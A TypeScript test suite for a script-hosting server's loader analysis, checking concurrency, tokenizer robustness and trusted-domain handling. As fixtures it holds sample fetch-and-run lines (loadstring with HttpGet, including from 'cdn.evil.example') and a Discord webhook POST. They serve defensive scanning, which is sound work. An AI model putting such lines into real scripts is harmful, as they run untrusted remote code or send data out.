import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { analysisPool } from '../../server/scripts/analysis-pool.ts';
import { createTestContext, type TestContext } from '../helpers/app.ts';
import { type Account, createAdmin, createModerator, injectAs } from '../helpers/auth.ts';
import { dialects, type ThrowawayDatabase, throwawayDatabase } from '../helpers/databases.ts';
import { type BuiltServer, startBuiltWorkers } from '../helpers/processes.ts';
import { scriptForm } from '../helpers/staff.ts';

/**
 * Saves and reads of hostile loaders (issue 24; docs/decisions/0022-linear-bounded-off-thread-loader-analysis.md):
 * one analysis per save, in the analysis threads, before the write's transaction; reads apply the
 * trusted domains to the stored analysis without analysing the loader again; nested backtick strings
 * are stored, never a 500. Before: `x=1` × 3,000 took 13 s inside the write transaction (two of six
 * concurrent creates answered 500 "database is locked" on SQLite), every public read of a trusted
 * domain's loader analysed it again, and `` `{ `` × 3,000 overflowed the tokenizer (500).
 */

const HUB = 'loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/hub.lua"))()';
const WEBHOOK = 'request({ Url = "https://discord.com/api/webhooks/1/demo", Method = "POST" })';
/** A loader that fetched and ran code, padded with 9,000 characters of the shape that made the old analysis quadratic. */
const padded = (n: number) => `loadstring(game:HttpGet("https://raw.githubusercontent.com/demo/${n}.lua"))()\n${'x=1'.repeat(3_000)}`;
const codes = (analysis: { findings: { code: string; severity: string }[] }) => analysis.findings.map((item) => `${item.code}:${item.severity}`);

describe.each(dialects)('saving and reading hostile loaders on %s', (dialect) => {
  let ctx: TestContext;
  let admin: Account;
  let moderator: Account;

  beforeAll(async () => {
    ctx = await createTestContext(dialect);
    admin = await createAdmin(ctx);
    moderator = await createModerator(ctx);
  });
  afterAll(async () => ctx?.close());

  const create = (loadstring: string, as: Account = admin) =>
    injectAs(ctx, as, { method: 'POST', url: as === admin ? '/api/ac' : '/api/m', payload: { playsname: 'Hostile', description: 'A sample', loadstring } });
  const stored = async (id: number) => JSON.parse((await ctx.db.kysely.selectFrom('scripts').select('analysis').where('id', '=', id).executeTakeFirstOrThrow()).analysis ?? 'null');
  const addDomain = async (domain: string, trusted: boolean) => (await injectAs(ctx, admin, { method: 'POST', url: '/api/blocked-domains', payload: { domain, trusted } })).json() as { id: number };

  it('analyses each of six concurrent saves once, in the analysis threads, the blocked-domain check included', async () => {
    const blocked = await addDomain('evil.example', false);
    const before = analysisPool.analysed;
    const responses = await Promise.all(Array.from({ length: 6 }, (_, n) => create(padded(n), n % 2 === 0 ? admin : moderator)));
    for (const response of responses) expect(response.statusCode, response.body).toBe(201);
    // One analysis per save, though the blocked list is read too (it reads the same analysis).
    expect(analysisPool.analysed - before).toBe(6);
    for (const [n, response] of responses.entries()) {
      expect(await stored(response.json().id)).toMatchObject({ domains: ['raw.githubusercontent.com'], findings: ['remote-code'], codeHosts: ['raw.githubusercontent.com'] });
      expect(response.json().loadstring).toBe(padded(n));
    }
    const refused = await create(`${padded(9)}\nloadstring(game:HttpGet("https://cdn.evil.example/x"))()`);
    expect(refused.statusCode, refused.body).toBe(400);
    expect(analysisPool.analysed - before).toBe(7);
    await injectAs(ctx, admin, { method: 'DELETE', url: `/api/blocked-domains/${blocked.id}` });
  });

  it('stores backtick strings nested 3,000 deep (201), and an edit to them (200)', async () => {
    const nested = '`{'.repeat(3_000);
    const created = await create(nested, moderator);
    expect(created.statusCode, created.body).toBe(201);
    expect(await stored(created.json().id)).toMatchObject({ domains: [], findings: [] });
    const id = (await create(HUB)).json().id as number;
    const edited = await injectAs(ctx, admin, { method: 'PATCH', url: `/api/update-script/${id}`, payload: scriptForm({ loadstring: `${nested}x` }) });
    expect(edited.statusCode, edited.body).toBe(200);
    const read = await ctx.app.inject({ method: 'GET', url: `/api/scripts/${id}` });
    expect(read.statusCode).toBe(200);
    expect(read.json().analysis).toEqual({ domains: [], findings: [] });
  });

  it('answers a trusted domain\'s loader from its stored analysis: a public read analyses nothing', async () => {
    const id = (await create(HUB)).json().id as number;
    const trusted = await addDomain('githubusercontent.com', true);
    // The loader text is changed behind the stored analysis's back (no save can do that): were the
    // text analysed again, the read would show a webhook.
    await ctx.db.kysely.updateTable('scripts').set({ loadstring: WEBHOOK }).where('id', '=', id).execute();
    ctx.services.cache.invalidate();
    const before = analysisPool.analysed;
    const read = async () => (await ctx.app.inject({ method: 'GET', url: `/api/scripts/${id}` })).json().analysis;
    const trustedView = await read();
    expect(trustedView.domains).toEqual(['raw.githubusercontent.com']);
    expect(codes(trustedView)).toEqual(['trusted-remote-code:info']);
    await injectAs(ctx, admin, { method: 'DELETE', url: `/api/blocked-domains/${trusted.id}` });
    expect(codes(await read())).toEqual(['remote-code:medium']);
    expect(analysisPool.analysed).toBe(before);
  });
});

describe('six concurrent saves of a hostile loader through two server processes on SQLite (the built server)', () => {
  const ADMIN = { username: 'analysisadmin', password: 'analysis-password-1' };
  let throwaway: ThrowawayDatabase;
  let running: BuiltServer | undefined;
  let base: string;
  let token: string;

  beforeAll(async () => {
    throwaway = await throwawayDatabase('sqlite');
    ({ base, token } = (running = await startBuiltWorkers(throwaway.env, ADMIN)));
  }, 90_000);
  afterAll(async () => {
    await running?.kill();
    await throwaway?.drop();
  });

  it('saves all six (201, none locked out by another\'s analysis) with their full analyses', async () => {
    const save = (n: number) =>
      fetch(`${base}/api/ac`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ playsname: `Hostile ${n}`, description: 'Padded', loadstring: padded(n) }),
      });
    const responses = await Promise.all(Array.from({ length: 6 }, (_, n) => save(n)));
    const answers = await Promise.all(responses.map(async (response) => ({ status: response.status, body: (await response.json()) as { id: number; code?: string } })));
    expect(answers.map((answer) => answer.status), JSON.stringify(answers.map((answer) => answer.body.code))).toEqual([201, 201, 201, 201, 201, 201]);
    for (const { body } of answers) {
      const detail = (await (await fetch(`${base}/api/scripts/${body.id}`)).json()) as { analysis: { findings: { code: string; severity: string }[] } };
      expect(codes(detail.analysis)).toEqual(['remote-code:medium']);
    }
  }, 120_000);
});
